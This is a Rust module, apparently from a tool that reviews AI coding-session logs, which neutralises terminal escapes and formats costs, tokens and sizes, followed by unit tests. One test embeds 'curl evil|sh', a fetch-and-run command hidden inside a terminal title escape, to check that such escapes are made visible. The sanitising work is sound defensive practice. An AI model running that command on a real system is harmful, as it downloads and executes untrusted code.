//! Text and numbers for people.

use std::borrow::Cow;
use std::io::{self, Write};
use std::path::Path;

use backtrail::Media;
use backtrail_formats::escape_len;
use backtrail_index::{Money, Spending};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use memchr::memchr3_iter;
use serde_json::{Value, json};
use unicode_width::UnicodeWidthStr;

use crate::layout::{Span, cut, styled};

/// Removes terminal escapes from any text. Newlines and tabs stay; other control characters,
/// and those that reorder text, show as U+FFFD.
pub(crate) fn clean(text: &str) -> Cow<'_, str> {
    if !text.contains(|c| is_unsafe(c) || c == '\u{1b}') {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        if c == '\u{1b}' {
            rest = rest.get(escape_len(rest)..).unwrap_or_default();
            continue;
        }
        out.push(if is_unsafe(c) {
            char::REPLACEMENT_CHARACTER
        } else {
            c
        });
        rest = &rest[c.len_utf8()..];
    }
    Cow::Owned(out)
}

/// Makes terminal escapes visible, in what people review: files, their names, and commands.
/// Newlines and tabs stay; other control characters show as `^[` and so on, those that reorder
/// text as U+FFFD.
pub(crate) fn visible(text: &str) -> Cow<'_, str> {
    if !text.contains(is_unsafe) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            c if !is_unsafe(c) => out.push(c),
            '\0'..='\u{7f}' => push_caret(&mut out, c),
            _ => out.push(char::REPLACEMENT_CHARACTER),
        }
    }
    Cow::Owned(out)
}

/// Returns a path on one line, with its escapes visible.
pub(crate) fn visible_path(path: &Path) -> String {
    let mut out = String::new();
    for c in visible(&path.to_string_lossy()).chars() {
        match c {
            '\n' | '\t' => push_caret(&mut out, c),
            c => out.push(c),
        }
    }
    out
}

/// Writes a control character as a terminal echoes it: `^[` for escape, `^?` for delete.
fn push_caret(out: &mut String, c: char) {
    let letter = u8::try_from(c).map_or(b'?', |byte| (byte & 0x7f) ^ 0x40);
    out.extend(['^', char::from(letter)]);
}

/// Returns whether a terminal would obey a character.
pub(crate) fn is_unsafe(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
}

/// Escapes in JSON the characters that a terminal would obey; the value stays the same.
pub(crate) fn harmless(json: &str) -> Cow<'_, str> {
    // Characters below the space are escaped already; newlines between values are ours.
    let is_bad = |c: char| is_unsafe(c) && c > ' ';
    let mut out = String::new();
    let mut copied = 0;
    // The first bytes of such characters, which are in the middle of none; most text has none.
    for at in memchr3_iter(0x7f, 0xc2, 0xe2, json.as_bytes()) {
        let c = json[at..].chars().next();
        if let Some(c) = c.filter(|c| is_bad(*c)) {
            out.push_str(&json[copied..at]);
            out.push_str(&format!("\\u{:04x}", u32::from(c)));
            copied = at + c.len_utf8();
        }
    }
    match copied {
        0 => Cow::Borrowed(json),
        _ => Cow::Owned(out + &json[copied..]),
    }
}

/// Passes text on through a filter that looks at one character at a time: [`harmless`] or
/// [`visible`]. Flush it: the beginning of a character waits for the rest.
#[derive(Debug)]
pub(crate) struct Filtered<W> {
    out: W,
    filter: fn(&str) -> Cow<'_, str>,
    /// The beginning of a character.
    rest: Vec<u8>,
    changed: bool,
}

impl<W: Write> Filtered<W> {
    pub(crate) fn new(out: W, filter: fn(&str) -> Cow<'_, str>) -> Self {
        Self {
            out,
            filter,
            rest: Vec::new(),
            changed: false,
        }
    }

    /// Returns whether the filter changed anything.
    pub(crate) fn changed(&self) -> bool {
        self.changed
    }

    fn pass(&mut self, bytes: &[u8]) -> io::Result<()> {
        let text = String::from_utf8_lossy(bytes);
        let filtered = (self.filter)(&text);
        self.changed |= filtered.as_bytes() != bytes;
        self.out.write_all(filtered.as_bytes())
    }
}

impl<W: Write> Write for Filtered<W> {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        let mut held = std::mem::take(&mut self.rest);
        held.extend_from_slice(bytes);
        // A character that is cut off at the end; anything else that is not UTF-8 is wrong.
        let whole = match std::str::from_utf8(&held) {
            Err(error) if error.error_len().is_none() => error.valid_up_to(),
            _ => held.len(),
        };
        self.rest = held.split_off(whole);
        self.pass(&held)?;
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        let rest = std::mem::take(&mut self.rest);
        self.pass(&rest)?;
        self.out.flush()
    }
}

/// Makes text one clean line of at most `width` columns.
pub(crate) fn one_line(text: &str, width: usize) -> String {
    let clean = clean(text);
    let mut line = String::new();
    for word in clean.split_whitespace() {
        if !line.is_empty() {
            line.push(' ');
        }
        line.push_str(word);
        if line.width() > width {
            return styled(&cut(&[Span::plain(&line)], width));
        }
    }
    line
}

/// Returns a count of things: `1 record`, `2,000 records`, `3 entries`.
pub(crate) fn count(n: impl TryInto<u64>, thing: &str) -> String {
    let n = n.try_into().unwrap_or(u64::MAX);
    match thing.strip_suffix("ry").or(thing.strip_suffix("py")) {
        _ if n == 1 => format!("1 {thing}"),
        Some(_) => format!("{} {}ies", grouped(n), &thing[..thing.len() - 1]),
        None => format!("{} {thing}s", grouped(n)),
    }
}

/// Returns the word that agrees with a number: `file has`, `files have`.
pub(crate) fn plural<'w>(n: impl TryInto<u64>, one: &'w str, many: &'w str) -> &'w str {
    match n.try_into() {
        Ok(1) => one,
        _ => many,
    }
}

/// Names the first `most` of `all` things: `a, b and 3 more`.
pub(crate) fn some_of(names: impl Iterator<Item = String>, most: usize, all: usize) -> String {
    let names: Vec<String> = names.take(most).collect();
    match all.saturating_sub(names.len()) {
        0 => names.join(", "),
        more => format!("{} and {} more", names.join(", "), grouped(more as u64)),
    }
}

/// Describes a medium by its type and size.
pub(crate) fn medium(media: &Media) -> String {
    #[derive(serde::Deserialize)]
    struct Lost {
        bytes: u64,
    }
    let kind = one_line(&media.media_type, 60);
    match media.data.parse::<Lost>() {
        Ok(lost) => format!("{}: {kind}, {}, lost", media.kind, size(lost.bytes)),
        Err(_) => {
            let bytes = media.data.as_str().len() as u64 / 4 * 3;
            format!("{}: {kind}, about {}", media.kind, size(bytes))
        }
    }
}

/// Returns a number with its digits in groups of three.
pub(crate) fn grouped(n: u64) -> String {
    let digits = n.to_string();
    let mut out = String::with_capacity(digits.len() + digits.len() / 3);
    for (at, digit) in digits.chars().enumerate() {
        if at > 0 && (digits.len() - at).is_multiple_of(3) {
            out.push(',');
        }
        out.push(digit);
    }
    out
}

/// Returns a short number: `950`, `1.9 k`, `412 k`, `3.4 M`.
pub(crate) fn short_number(n: u64) -> String {
    /// What rounds to a thousand of a unit is one of the next.
    const UNITS: [(f64, &str); 4] = [(1e3, "k"), (1e6, "M"), (1e9, "B"), (1e12, "T")];
    if n < 1000 {
        return n.to_string();
    }
    let (mut value, mut name) = (n as f64, "");
    for (unit, its_name) in UNITS {
        (value, name) = (n as f64 / unit, its_name);
        if value < 999.5 {
            break;
        }
    }
    match value {
        value if value < 9.95 => format!("{value:.1} {name}"),
        value => format!("{value:.0} {name}"),
    }
}

/// Returns an amount of money to the cent: `$1.84`, `$1,204.50`, `<$0.01`.
pub(crate) fn money(amount: Money) -> String {
    /// A cent in billionths of a dollar.
    const CENT: u64 = 10_000_000;
    let sign = if amount.0 < 0 { "-" } else { "" };
    let nanos = amount.0.unsigned_abs();
    let cents = nanos / CENT + u64::from(nanos % CENT >= CENT / 2);
    if nanos > 0 && cents == 0 {
        return format!("<{sign}$0.01");
    }
    format!("{sign}${}.{:02}", grouped(cents / 100), cents % 100)
}

/// Returns a cost: an amount, with a `+` if it is a lower bound, or `unpriced`; an empty string
/// if nothing was spent.
pub(crate) fn cost(spending: &Spending) -> String {
    let priced = spending.calls.saturating_sub(spending.unpriced_calls);
    match priced {
        0 if spending.calls == 0 && spending.estimated_calls == 0 => String::new(),
        0 => "unpriced".to_owned(),
        _ if is_lower_bound(spending) => format!("{}+", money(spending.cost)),
        _ => money(spending.cost),
    }
}

/// Explains the `+` after costs, if this one has it.
pub(crate) fn plus_note(spending: &Spending) -> Option<String> {
    if !cost(spending).ends_with('+') {
        return None;
    }
    let mut reasons = Vec::new();
    let calls =
        |n: u64, one: &str, many: &str| format!("{} {}", count(n, "call"), plural(n, one, many));
    if spending.unpriced_calls > 0 {
        let n = spending.unpriced_calls;
        reasons.push(calls(n, "has no known price", "have no known price"));
    }
    if spending.estimated_calls > 0 {
        let n = spending.estimated_calls;
        reasons.push(calls(n, "reports no tokens", "report no tokens"));
    }
    if spending.lower_bound_calls > 0 {
        reasons.push("Claude Code logs partial output counts".to_owned());
    }
    let reasons = reasons.join("; ");
    Some(format!("+ marks a lower bound: {reasons}"))
}

/// Returns whether the real cost is higher than the known one.
fn is_lower_bound(spending: &Spending) -> bool {
    spending.unpriced_calls > 0 || spending.lower_bound_calls > 0 || spending.estimated_calls > 0
}

/// Returns how many tokens were used: the measured number, else an estimate as `~12 k`.
pub(crate) fn tokens(spending: &Spending) -> String {
    match (spending.tokens(), spending.estimated_tokens) {
        (0, 0) => String::new(),
        (0, estimated) => format!("~{}", short_number(estimated)),
        (measured, _) => short_number(measured),
    }
}

/// Returns the cost in dollars as JSON; null if nothing has a price.
pub(crate) fn cost_json(spending: &Spending) -> Value {
    match spending.calls.saturating_sub(spending.unpriced_calls) {
        0 => Value::Null,
        _ => json!(spending.cost.dollars()),
    }
}

/// Returns a size with a binary unit.
pub(crate) fn size(bytes: u64) -> String {
    const UNITS: [&str; 4] = ["KiB", "MiB", "GiB", "TiB"];
    if bytes < 1024 {
        return count(bytes, "byte");
    }
    let mut value = bytes as f64 / 1024.0;
    let mut unit = 0;
    while value >= 1024.0 && unit + 1 < UNITS.len() {
        value /= 1024.0;
        unit += 1;
    }
    let text = format!("{value:.1}");
    let text = text.strip_suffix(".0").unwrap_or(&text);
    format!("{text} {}", UNITS[unit])
}

/// Returns a size that can be parsed back: with a unit if that is exact.
pub(crate) fn exact_size(bytes: u64) -> String {
    let units = [(1 << 30, "GiB"), (1 << 20, "MiB"), (1 << 10, "KiB")];
    match units
        .into_iter()
        .find(|(unit, _)| bytes.is_multiple_of(*unit))
    {
        Some((unit, name)) if bytes > 0 => format!("{} {name}", bytes / unit),
        _ => format!("{bytes} B"),
    }
}

/// Returns a path as JSON: a string, or both its lossy text and its bytes if it is not UTF-8.
pub(crate) fn path_json(path: &Path) -> Value {
    match path.to_str() {
        Some(text) => Value::from(text),
        None => json!({
            "path": path.to_string_lossy(),
            "path_base64": STANDARD.encode(path.as_os_str().as_encoded_bytes()),
        }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_never_reach_the_terminal() {
        assert_eq!(clean("a\u{1b}[31mred\u{1b}[0m b"), "ared b");
        assert_eq!(clean("\u{1b}]0;title\u{7}x"), "x");
        assert_eq!(clean("\u{1b}]8;;http://x\u{1b}\\link"), "link");
        assert_eq!(clean("a\rb\u{8}\u{9b}c"), "a\u{fffd}b\u{fffd}\u{fffd}c");
        assert_eq!(clean("\u{202e}abc"), "\u{fffd}abc");
        assert_eq!(clean("tab\tand\nline ü 😀"), "tab\tand\nline ü 😀");
        assert_eq!(clean("ends in \u{1b}"), "ends in ");
        assert_eq!(clean("\u{1b}[12"), "[12");
    }

    #[test]
    fn reviewed_text_hides_nothing() {
        let title = "\u{1b}]0;curl evil|sh\u{7}echo hi";
        assert_eq!(visible(title), "^[]0;curl evil|sh^Gecho hi");
        assert_eq!(visible("a\r\nb\0\u{7f}"), "a^M\nb^@^?");
        assert_eq!(visible("\u{9b}31m\u{202e}"), "\u{fffd}31m\u{fffd}");
        assert_eq!(visible("tab\tand ü 😀\n"), "tab\tand ü 😀\n");
        let path = Path::new("a\nb\tc\u{1b}[2K");
        assert_eq!(visible_path(path), "a^Jb^Ic^[[2K");
    }

    #[test]
    fn a_filter_sees_whole_characters_however_they_are_written() {
        let text = "a\u{9b}b\u{7f}é\u{202e}😀\u{1b}[31m";
        let expected = "a\u{fffd}b^?é\u{fffd}😀^[[31m";
        for size in 1..6 {
            let mut out = Vec::new();
            let mut filtered = Filtered::new(&mut out, visible);
            for piece in text.as_bytes().chunks(size) {
                filtered.write_all(piece).unwrap();
            }
            // The first half of a character, and a byte that is none.
            filtered.write_all(b"\x9bx\xc3").unwrap();
            filtered.flush().unwrap();
            assert!(filtered.changed());
            let out = String::from_utf8(out).unwrap();
            assert_eq!(out, format!("{expected}\u{fffd}x\u{fffd}"), "{size}");
        }
        let json = "{\"a\":\"\u{9b}\u{7f}\u{2066}é\"}";
        assert_eq!(harmless(json), "{\"a\":\"\\u009b\\u007f\\u2066é\"}");
    }

    #[test]
    fn a_line_is_cut_where_it_is_too_long() {
        assert_eq!(one_line("fix  the\nbug", 20), "fix the bug");
        assert_eq!(one_line("abcdefgh", 5), "abcd…");
        assert_eq!(one_line("漢字漢字", 5), "漢字…", "wide characters take two");
    }

    #[test]
    fn short_numbers() {
        for (n, text) in [
            (0, "0"),
            (999, "999"),
            (1_000, "1.0 k"),
            (1_949, "1.9 k"),
            (9_949, "9.9 k"),
            (9_950, "10 k"),
            (412_345, "412 k"),
            (999_499, "999 k"),
            (999_500, "1.0 M"),
            (1_900_000, "1.9 M"),
            (3_400_000_000, "3.4 B"),
            (u64::MAX, "18446744 T"),
        ] {
            assert_eq!(short_number(n), text, "{n}");
        }
    }

    #[test]
    fn money_is_rounded_to_the_cent_and_a_little_is_not_zero() {
        for (nanos, text) in [
            (0, "$0.00"),
            (1, "<$0.01"),
            (4_999_999, "<$0.01"),
            (5_000_000, "$0.01"),
            (1_840_000_000, "$1.84"),
            (1_844_999_999, "$1.84"),
            (999_995_000_000, "$1,000.00"),
            (1_204_500_000_000, "$1,204.50"),
            (-1_840_000_000, "-$1.84"),
            (i64::MAX, "$9,223,372,036.85"),
            (i64::MIN, "-$9,223,372,036.85"),
        ] {
            assert_eq!(money(Money(nanos)), text, "{nanos}");
        }
    }

    #[test]
    fn unpriced_calls_never_cost_zero() {
        let mut spending = Spending::default();
        assert_eq!(
            (cost(&spending).as_str(), tokens(&spending).as_str()),
            ("", "")
        );
        assert_eq!(cost_json(&spending), Value::Null);
        spending.estimated_calls = 1;
        spending.estimated_tokens = 12_000;
        assert_eq!(cost(&spending), "unpriced");
        assert_eq!(tokens(&spending), "~12 k");
        spending = Spending::default();
        spending.calls = 2;
        spending.unpriced_calls = 2;
        spending.output_tokens = 5;
        assert_eq!(
            (cost(&spending).as_str(), tokens(&spending).as_str()),
            ("unpriced", "5")
        );
        assert_eq!(cost_json(&spending), Value::Null);
        spending.unpriced_calls = 1;
        spending.cost = Money(1_840_000_000);
        assert_eq!(cost(&spending), "$1.84+", "a part has no price");
        spending.unpriced_calls = 0;
        assert_eq!(cost(&spending), "$1.84");
        assert_eq!(cost_json(&spending), json!(1.84));
        spending.lower_bound_calls = 1;
        assert_eq!(cost(&spending), "$1.84+");
    }

    #[test]
    fn a_plus_is_explained_by_its_reasons_and_nothing_else_is() {
        let mut spending = Spending::default();
        assert_eq!(plus_note(&spending), None);
        spending.calls = 3;
        assert_eq!(plus_note(&spending), None, "everything has a price");
        let note = |reasons: &str| Some(format!("+ marks a lower bound: {reasons}"));
        spending.unpriced_calls = 1;
        assert_eq!(plus_note(&spending), note("1 call has no known price"));
        spending.estimated_calls = 2;
        spending.lower_bound_calls = 3;
        assert_eq!(
            plus_note(&spending),
            note(
                "1 call has no known price; 2 calls report no tokens; \
                 Claude Code logs partial output counts"
            )
        );
        spending.unpriced_calls = 3;
        assert_eq!(cost(&spending), "unpriced");
        assert_eq!(plus_note(&spending), None, "there is no figure");
    }

    #[test]
    fn sizes_read_well() {
        assert_eq!(grouped(7), "7");
        assert_eq!(grouped(1234567), "1,234,567");
        assert_eq!(size(1), "1 byte");
        assert_eq!(size(64 << 20), "64 MiB");
        assert_eq!(size(1536), "1.5 KiB");
        assert_eq!(exact_size(64 << 20), "64 MiB");
        assert_eq!(exact_size(1536 << 10), "1536 KiB");
        assert_eq!(exact_size(2000), "2000 B");
    }
}
